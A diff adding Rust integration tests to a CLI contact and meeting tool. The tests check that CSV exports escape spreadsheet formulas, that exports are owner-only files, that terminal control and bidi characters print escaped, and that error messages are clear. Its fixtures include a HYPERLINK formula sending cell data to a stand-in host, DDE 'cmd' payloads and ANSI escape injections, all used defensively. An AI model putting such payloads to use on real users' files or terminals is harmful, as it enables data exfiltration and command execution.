@@ -731,3 +731,343 @@ fn a_lead_turns_sharing_off_and_makes_a_meeting_public() -> TestResult {
     );
     Ok(())
 }
+
+/// The binary, started through `sh` with this umask (the test process's own is not changed:
+/// other tests run beside it).
+fn with_umask(umask: &str, data: &Path, args: &[&str]) -> std::io::Result<Output> {
+    Command::new("sh")
+        .arg("-c")
+        .arg(format!("umask {umask}; exec \"$0\" \"$@\""))
+        .arg(env!("CARGO_BIN_EXE_groundwork"))
+        .arg("--data")
+        .arg(data)
+        .args(args)
+        .arg("--json")
+        .env_remove("GROUNDWORK_DATA")
+        .output()
+}
+
+/// Every row of a CSV file, header first, read with the csv crate.
+fn csv_rows(path: &Path) -> Result<Vec<Vec<String>>, Box<dyn std::error::Error>> {
+    let mut reader = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_path(path)?;
+    let mut rows = Vec::new();
+    for record in reader.records() {
+        rows.push(record?.iter().map(str::to_owned).collect());
+    }
+    Ok(rows)
+}
+
+#[cfg(unix)]
+fn mode(path: &Path) -> std::io::Result<u32> {
+    use std::os::unix::fs::PermissionsExt;
+    Ok(std::fs::metadata(path)?.permissions().mode() & 0o777)
+}
+
+/// Hostile text a contact may hold: a spreadsheet would run each of these as a formula.
+const FORMULA_NAME: &str = "=HYPERLINK(\"http://x/?\"&J3&K3, \"open\")";
+const FORMULA_NOTES: &[&str] = &["+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"];
+
+#[cfg(unix)]
+#[test]
+fn exports_show_formulas_as_text_in_files_only_their_owner_can_read() -> TestResult {
+    let dir = tempfile::tempdir()?;
+    let gw = Gw { data: dir.path() };
+    gw.json(&["init", "--name", "Lead"])?;
+    let group = field(&gw.json(&["group", "create", "--name", "G"])?, "group_id")?;
+    // Contacts of an old month: `contact export` and the retention export both hold them.
+    for note in FORMULA_NOTES {
+        gw.json(&[
+            "contact",
+            "log",
+            &group,
+            "--result",
+            "talked",
+            "--consent",
+            "--name",
+            FORMULA_NAME,
+            "--phone",
+            "+1 555 0100",
+            // `--note=-2...`: a value starting with `-` would be taken for an option.
+            &format!("--note={note}"),
+            "--at",
+            "2020-01-15T12:00:00Z",
+        ])?;
+    }
+    let check = |path: &Path| -> TestResult {
+        let rows = csv_rows(path)?;
+        let header = &rows[0];
+        let col = |name: &str| header.iter().position(|h| h == name).ok_or(name.to_owned());
+        let (name, note, phone, result) =
+            (col("name")?, col("note")?, col("phone")?, col("result")?);
+        assert_eq!(rows.len(), 1 + FORMULA_NOTES.len(), "{rows:?}");
+        let mut notes: Vec<&str> = rows[1..].iter().map(|r| r[note].as_str()).collect();
+        notes.sort_unstable();
+        let mut expected: Vec<String> = FORMULA_NOTES.iter().map(|n| format!("'{n}")).collect();
+        expected.sort_unstable();
+        assert_eq!(notes, expected);
+        for row in &rows[1..] {
+            assert_eq!(row[name], format!("'{FORMULA_NAME}"));
+            assert_eq!(row[phone], "'+1 555 0100");
+            assert_eq!(row[result], "talked", "a harmless cell is left as it is");
+        }
+        assert_eq!(mode(path)?, 0o600, "{}", path.display());
+        Ok(())
+    };
+
+    // A new file, under umask 022 (which would make it 0644).
+    let export = dir.path().join("contacts.csv");
+    let out = with_umask(
+        "022",
+        dir.path(),
+        &[
+            "contact",
+            "export",
+            &group,
+            "--csv",
+            &export.to_string_lossy(),
+        ],
+    )?;
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    check(&export)?;
+
+    // A file already there, readable by everyone: replaced, and made private first.
+    let retention = dir.path().join("retention.csv");
+    std::fs::write(
+        &retention,
+        "an older export, much longer than the new one\n".repeat(50),
+    )?;
+    std::fs::set_permissions(
+        &retention,
+        std::os::unix::fs::PermissionsExt::from_mode(0o644),
+    )?;
+    let out = with_umask(
+        "022",
+        dir.path(),
+        &[
+            "group",
+            "retention",
+            &group,
+            "1",
+            "--export",
+            &retention.to_string_lossy(),
+        ],
+    )?;
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let answer: Value = serde_json::from_slice(&out.stdout)?;
+    assert_eq!(answer["exported"], FORMULA_NOTES.len());
+    check(&retention)?;
+    Ok(())
+}
+
+/// Printable bytes only (and newlines): no ESC, BEL, CR, C1 control or bidi override.
+fn assert_inert(text: &str) {
+    for c in text.chars() {
+        let control = (c.is_control() && c != '\n')
+            || ('\u{202a}'..='\u{202e}').contains(&c)
+            || ('\u{2066}'..='\u{2069}').contains(&c);
+        assert!(!control, "{c:?} printed raw in {text:?}");
+    }
+}
+
+#[test]
+fn control_characters_from_documents_print_escaped_and_json_keeps_them() -> TestResult {
+    let dir = tempfile::tempdir()?;
+    let gw = Gw { data: dir.path() };
+    gw.json(&["init", "--name", "Lead"])?;
+    let group = field(&gw.json(&["group", "create", "--name", "G"])?, "group_id")?;
+    let title = "Ask\u{1b}[2J\u{7}\rFAKE\nsecond line";
+    let location = "Hall\u{1b}]0;owned\u{7}";
+    let item = "item \u{202e}evil\u{2066}";
+    let notes = "first line\nsecond \u{1b}[31mred\u{9b}\r\tend";
+    let meeting = field(
+        &gw.json(&[
+            "meeting",
+            "create",
+            &group,
+            "--kind",
+            "organizing",
+            "--title",
+            title,
+            "--location",
+            location,
+        ])?,
+        "meeting_id",
+    )?;
+    gw.json(&["meeting", "agenda", &meeting, "--add", item])?;
+    gw.json(&["meeting", "notes", &meeting, "--append", notes])?;
+
+    let out = gw.run(&["meeting", "show", &meeting])?;
+    assert!(out.status.success());
+    let shown = String::from_utf8(out.stdout)?;
+    assert_inert(&shown);
+    // One-line fields: every control escaped, the newline too.
+    assert!(
+        shown.starts_with("Ask\\u{1b}[2J\\u{7}\\rFAKE\\nsecond line ("),
+        "{shown}"
+    );
+    assert!(
+        shown.contains("where: Hall\\u{1b}]0;owned\\u{7}\n"),
+        "{shown}"
+    );
+    assert!(
+        shown.contains("1. item \\u{202e}evil\\u{2066}\n"),
+        "{shown}"
+    );
+    // Notes are prose: their newline is kept, the rest escaped.
+    assert!(
+        shown.contains("first line\nsecond \\u{1b}[31mred\\u{9b}\\r\\tend"),
+        "{shown}"
+    );
+
+    let out = gw.run(&["meeting", "list", &group])?;
+    let listed = String::from_utf8(out.stdout)?;
+    assert_inert(&listed);
+    assert_eq!(listed.lines().count(), 1, "{listed}");
+    assert!(listed.contains("Ask\\u{1b}[2J\\u{7}\\rFAKE\\nsecond line"));
+
+    // JSON carries the text as it is.
+    let json = gw.json(&["meeting", "show", &meeting])?;
+    assert_eq!(json["title"], title);
+    assert_eq!(json["location"], location);
+    assert_eq!(json["agenda"][0]["text"], item);
+    assert!(field(&json, "notes")?.contains(notes));
+    assert_eq!(gw.json(&["meeting", "list", &group])?[0]["title"], title);
+    Ok(())
+}
+
+#[cfg(unix)]
+#[test]
+fn errors_about_the_data_directory_key_and_arguments_name_their_cause() -> TestResult {
+    use std::os::unix::ffi::OsStrExt;
+    let dir = tempfile::tempdir()?;
+
+    // A data directory that is a file.
+    let file = dir.path().join("a-file");
+    std::fs::write(&file, "not a directory")?;
+    for args in [&["init", "--name", "Lead"][..], &["whoami"]] {
+        let stderr = Gw { data: &file }.fails(args)?;
+        assert!(stderr.contains("is not a directory"), "{args:?}: {stderr}");
+        assert!(!stderr.contains("File exists"), "{stderr}");
+    }
+    let below = file.join("data");
+    let stderr = Gw { data: &below }.fails(&["whoami"])?;
+    assert!(
+        stderr.contains(&format!("{} is not a directory", file.display())),
+        "{stderr}"
+    );
+
+    // A wrong key: the clear message alone, without SQLCipher's own log lines before it.
+    let data = dir.path().join("device");
+    let gw = Gw { data: &data };
+    gw.json(&["init", "--name", "Lead"])?;
+    let out = Command::new(env!("CARGO_BIN_EXE_groundwork"))
+        .arg("--data")
+        .arg(&data)
+        .arg("whoami")
+        .env("GROUNDWORK_STORE_KEY", "11".repeat(32))
+        .output()?;
+    assert_eq!(out.status.code(), Some(1));
+    let stderr = String::from_utf8(out.stderr)?;
+    assert_eq!(stderr.lines().count(), 1, "{stderr}");
+    assert!(stderr.starts_with("groundwork: the store at "), "{stderr}");
+    assert!(
+        stderr.contains("cannot be opened with this key"),
+        "{stderr}"
+    );
+
+    // An argument that is not UTF-8 is named; a path that is not UTF-8 is no text, and fine.
+    let name = std::ffi::OsStr::from_bytes(b"caf\xe9");
+    let out = Command::new(env!("CARGO_BIN_EXE_groundwork"))
+        .arg("--data")
+        .arg(std::ffi::OsStr::from_bytes(b"/nonexistent/d\xff"))
+        .args(["group", "create", "--name"])
+        .arg(name)
+        .output()?;
+    assert_eq!(out.status.code(), Some(2), "a malformed command line");
+    let stderr = String::from_utf8(out.stderr)?;
+    assert!(
+        stderr.contains("the value of --name (\"caf\\xE9\") is not valid UTF-8"),
+        "{stderr}"
+    );
+    assert!(!stderr.contains("--data"), "{stderr}");
+    let out = Command::new(env!("CARGO_BIN_EXE_groundwork"))
+        .arg("--data")
+        .arg(&data)
+        .args(["meeting", "show"])
+        .arg(name)
+        .output()?;
+    assert_eq!(out.status.code(), Some(2));
+    let stderr = String::from_utf8(out.stderr)?;
+    assert!(stderr.contains("argument 5 (\"caf\\xE9\")"), "{stderr}");
+
+    read_only_data_directory(dir.path())
+}
+
+/// A data directory this user cannot write. Root may write anywhere: as root the device runs
+/// as `nobody` (through `setpriv`), and the test says so and stops where that is not possible.
+#[cfg(unix)]
+fn read_only_data_directory(root: &Path) -> TestResult {
+    use std::os::unix::fs::PermissionsExt;
+    let set_mode =
+        |p: &Path, m: u32| std::fs::set_permissions(p, std::fs::Permissions::from_mode(m));
+    let probe = root.join("probe");
+    std::fs::create_dir(&probe)?;
+    set_mode(&probe, 0o555)?;
+    let privileged = std::fs::write(probe.join("f"), "").is_ok();
+    let setpriv = ["/usr/bin/setpriv", "/bin/setpriv"]
+        .into_iter()
+        .find(|p| Path::new(p).exists());
+    let data = root.join("read-only");
+    std::fs::create_dir(&data)?;
+    let command = || -> Option<Command> {
+        if !privileged {
+            return Some(Command::new(env!("CARGO_BIN_EXE_groundwork")));
+        }
+        let mut c = Command::new(setpriv?);
+        c.args(["--reuid=65534", "--regid=65534", "--clear-groups"])
+            .arg(env!("CARGO_BIN_EXE_groundwork"));
+        Some(c)
+    };
+    if command().is_none() {
+        eprintln!("running as root without setpriv: the read-only directory is not checked");
+        return Ok(());
+    }
+    if privileged {
+        set_mode(root, 0o755)?;
+        std::os::unix::fs::chown(&data, Some(65534), Some(65534))?;
+    }
+    let run = |args: &[&str]| -> std::io::Result<Output> {
+        let mut c = command().ok_or_else(|| std::io::Error::other("no command"))?;
+        c.arg("--data").arg(&data).args(args).output()
+    };
+    let out = run(&["init", "--name", "Lead"])?;
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    set_mode(&data, 0o555)?;
+    let out = run(&["whoami"])?;
+    set_mode(&data, 0o755)?;
+    let stderr = String::from_utf8(out.stderr)?;
+    assert_eq!(out.status.code(), Some(1), "{stderr}");
+    assert!(
+        stderr.contains(&format!(
+            "the data directory {} is read-only",
+            data.display()
+        )),
+        "{stderr}"
+    );
+    assert!(!stderr.contains("cannot be read"), "{stderr}");
+    Ok(())
+}
